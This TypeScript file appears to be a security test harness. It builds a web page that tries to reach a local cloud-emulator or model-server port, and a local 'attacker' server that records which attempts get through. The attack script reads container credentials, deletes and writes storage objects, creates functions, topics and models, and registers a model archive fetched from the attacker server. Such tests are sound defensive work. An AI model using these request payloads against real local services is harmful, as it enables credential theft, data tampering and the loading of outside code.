/**
 * A web page that attacks a port of this machine, and its server, which shows that the page can reach and read a port.
 */

import { createHash } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import type { Duplex } from "node:stream";
import { text } from "node:stream/consumers";
import { z } from "zod";

/** One attempt of the page. */
export interface Attempt {
  readonly name: string;
  /** Content that the page could read; undefined if none. */
  readonly read?: string | undefined;
}

const attempts = z.array(z.object({ name: z.string(), read: z.string().optional() }));

/** Parses the page's report. */
export function readAttempts(report: unknown): Attempt[] {
  return attempts.parse(report);
}

/** The attacker's server. */
export interface Attacker {
  readonly port: number;
  /** Returns the names of the attempts that have reached the server since the last call. */
  takeReached(): string[];
  /** Number of requests for the archive. */
  readonly downloads: number;
  stop(): Promise<void>;
}

/** Path of an archive with a model; only a server that registers the model requests it. */
const archivePath = "/model.mar";

/** The page before it attacks. */
export const pageContent = "<!doctype html><title>page</title><body></body>";

/**
 * Returns JavaScript that attacks one port and resolves to its attempts.
 * @param base the URL of the port
 * @param attacker the URL of the attacker's server
 * @param presigned query of a URL that is presigned but for the signature, by service
 */
export function attackOn(
  base: string,
  attacker: string,
  presigned: Readonly<Record<"s3" | "sns" | "sagemaker", string>>,
): string {
  return `(${attack})(${JSON.stringify({ base, archive: `${attacker}${archivePath}`, presigned })})`;
}

// A string, because it runs in the page, and the project's types do not include the DOM.
const attack = `async ({ base, archive, presigned }) => {
  const attempts = [];
  // Each attempt has a name in its URL, by which the attacker's server identifies it.
  const at = (path, name) => base + path + (path.includes("?") ? "&" : "?") + "attempt=" + encodeURIComponent(name);
  const limit = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 5000))]);
  const attempt = (name, act) =>
    attempts.push(limit(act(name).catch(() => undefined)).then((read) => ({ name, read })));
  const until = (element, loaded) =>
    new Promise((resolve) => {
      element.onload = () => resolve(loaded);
      element.onerror = () => resolve();
      document.body.append(element);
    });

  const json = { "content-type": "application/json" };
  const plain = { "content-type": "text/plain" };
  const query = { "content-type": "application/x-www-form-urlencoded" };
  const code = { FunctionName: "attack", Runtime: "python3.12", Role: "r", Handler: "h", Code: { ZipFile: "" } };
  const model = { "content-type": "application/x-amz-json-1.1", "x-amz-target": "SageMaker.CreateModel" };
  const calls = [
    ["list buckets", "GET", "/"],
    ["list a bucket", "GET", "/videos"],
    ["read an object", "GET", "/videos/video.mp4"],
    ["list the open bucket", "GET", "/open"],
    ["read an open object", "GET", "/open/video.mp4"],
    ["put an open object", "PUT", "/open/attacked", plain, "attacked"],
    ["delete an open object", "DELETE", "/open/video.mp4"],
    ["delete open objects", "POST", "/open?delete", plain, "<Delete><Object><Key>video.mp4</Key></Object></Delete>"],
    ["health", "GET", "/_local/health"],
    ["status", "GET", "/_local/status"],
    ["container credentials", "GET", "/_local/container-credentials"],
    ["list functions", "GET", "/2015-03-31/functions"],
    ["list models", "GET", "/models"],
    ["make a bucket", "PUT", "/attacked"],
    ["put an object", "PUT", "/videos/attacked", plain, "attacked"],
    ["delete an object", "DELETE", "/videos/video.mp4"],
    ["make a function", "POST", "/2015-03-31/functions", json, JSON.stringify(code)],
    ["make a function as text", "POST", "/2015-03-31/functions", plain, JSON.stringify(code)],
    ["make a topic", "POST", "/", query, "Action=CreateTopic&Name=attacked"],
    ["make a model", "POST", "/", model, JSON.stringify({ ModelName: "attacked" })],
    ["invoke", "POST", "/endpoints/endpoint/async-invocations", { "x-amzn-sagemaker-inputlocation": "s3://videos/video.mp4" }],
    ["reset", "POST", "/_ministack/reset"],
    ["register a model", "POST", "/models?url=" + encodeURIComponent(archive)],
    ["predict", "POST", "/predictions/model", json, "{}"],
    ["presigned read", "GET", "/videos/video.mp4?" + presigned.s3],
    ["presigned write", "PUT", "/videos/attacked?" + presigned.s3, plain, "attacked"],
    ["presigned topic", "POST", "/?" + presigned.sns, query, "Action=CreateTopic&Name=attacked"],
    ["presigned model", "POST", "/?" + presigned.sagemaker, plain, JSON.stringify({ ModelName: "attacked" })],
  ];
  for (const [what, method, path, headers = {}, body] of calls) {
    for (const mode of ["cors", "no-cors"]) {
      // A page may not send other methods and headers without CORS.
      if (mode === "no-cors" && !["GET", "POST"].includes(method)) continue;
      attempt(mode + " fetch: " + what, async (name) => {
        const answer = await fetch(at(path, name), { method, mode, headers, body });
        // The answer of another origin has no text here.
        return (answer.status === 0 ? "" : answer.status + " ") + (await answer.text()) || undefined;
      });
    }
  }

  const forms = [
    ["make a topic", "/", "application/x-www-form-urlencoded", { Action: "CreateTopic", Name: "attacked" }],
    ["presigned topic", "/?" + presigned.sns, "application/x-www-form-urlencoded", { Action: "CreateTopic", Name: "attacked" }],
    ["upload", "/videos", "multipart/form-data", { key: "attacked", file: "attacked" }],
    ["open upload", "/open", "multipart/form-data", { key: "attacked", file: "attacked" }],
    ["presigned upload", "/videos?" + presigned.s3, "multipart/form-data", { key: "attacked", file: "attacked" }],
    ["make a function", "/2015-03-31/functions", "text/plain", { '{"a': '":1}' }],
    ["reset", "/_ministack/reset", "text/plain", {}],
    ["register a model", "/models?url=" + encodeURIComponent(archive), "text/plain", {}],
  ];
  for (const [what, path, enctype, fields] of forms) {
    attempt("form: " + what, async (name) => {
      const frame = document.createElement("iframe");
      frame.name = name;
      document.body.append(frame);
      const form = document.createElement("form");
      Object.assign(form, { method: "post", enctype, action: at(path, name), target: name });
      for (const [key, value] of Object.entries(fields)) {
        form.append(Object.assign(document.createElement("input"), { name: key, value }));
      }
      document.body.append(form);
      const loaded = new Promise((resolve) => (frame.onload = resolve));
      form.submit();
      await loaded;
      return frame.contentDocument?.body?.textContent || undefined;
    });
  }

  const paths = {
    root: "/",
    object: "/videos/video.mp4",
    "open object": "/open/video.mp4",
    "open image": "/open/image.svg",
    presigned: "/videos/video.mp4?" + presigned.s3,
  };
  for (const [what, path] of Object.entries(paths)) {
    attempt("image: " + what, (name) =>
      until(Object.assign(new Image(), { src: at(path, name), referrerPolicy: "no-referrer" }), "an image"));
    attempt("script: " + what, (name) =>
      until(Object.assign(document.createElement("script"), { src: at(path, name) }), "a script"));
    attempt("style: " + what, (name) =>
      until(Object.assign(document.createElement("link"), { rel: "stylesheet", href: at(path, name) }), "a style"));
  }

  attempt("frame: open object", async (name) => {
    const frame = document.createElement("iframe");
    await until(Object.assign(frame, { src: at("/open/video.mp4", name), referrerPolicy: "no-referrer" }));
    return frame.contentDocument?.body?.textContent || undefined;
  });
  attempt("beacon", async (name) => {
    navigator.sendBeacon(at("/2015-03-31/functions", name), JSON.stringify(code));
  });
  attempt("event source", (name) => new Promise((resolve) => {
    const source = new EventSource(at("/", name));
    source.onopen = () => resolve("an open stream");
    source.onerror = () => resolve();
  }));
  attempt("web socket", (name) => new Promise((resolve) => {
    const socket = new WebSocket(at("/", name).replace("http", "ws"));
    socket.onopen = () => resolve("an open socket");
    socket.onerror = () => resolve();
  }));
  return await Promise.all(attempts);
}`;

/** Starts the server on a free port of 127.0.0.1. Every origin may read all of its answers. */
export async function startAttacker(): Promise<Attacker> {
  const reached = new Set<string>();
  let downloads = 0;
  // The server does not close connections that it has handed over.
  const sockets = new Set<Duplex>();
  const attemptOf = (request: IncomingMessage): string | null =>
    new URL(`http://attacker${request.url ?? "/"}`).searchParams.get("attempt");
  const server = createServer((request, response) => {
    // A preflight precedes the actual request.
    const name = request.method === "OPTIONS" ? null : attemptOf(request);
    if (name !== null) reached.add(name);
    if (request.url === archivePath) downloads += 1;
    void text(request).then(() => {
      answer(name, response);
    });
  });
  server.on("upgrade", (request: IncomingMessage, socket) => {
    reached.add(attemptOf(request) ?? "");
    // Source: RFC 6455, 4.2.2.
    const accept = createHash("sha1")
      .update(`${request.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest("base64");
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    socket.on("error", () => undefined);
    sockets.add(socket);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    port: (server.address() as AddressInfo).port,
    takeReached() {
      const names = [...reached];
      reached.clear();
      return names;
    },
    get downloads() {
      return downloads;
    },
    async stop() {
      const closed = once(server, "close");
      server.close();
      server.closeAllConnections();
      for (const socket of sockets) socket.destroy();
      await closed;
    },
  };
}

/** Content by the first word of an attempt's name. */
const contents: Readonly<Record<string, readonly [type: string, body: string]>> = {
  image: ["image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'],
  script: ["text/javascript", "0;"],
  style: ["text/css", "a {}"],
  form: ["text/html", "<!doctype html><body>readable</body>"],
  frame: ["text/html", "<!doctype html><body>readable</body>"],
  event: ["text/event-stream", "data: readable\n\n"],
};

function answer(name: string | null, response: ServerResponse): void {
  const [type, body] = contents[/^\w+/.exec(name ?? "")?.[0] ?? ""] ?? ["text/plain", "readable"];
  response.writeHead(200, {
    "content-type": type,
    "access-control-allow-origin": "*",
    "access-control-allow-methods": "*",
    "access-control-allow-headers": "*",
  });
  response.end(body);
}
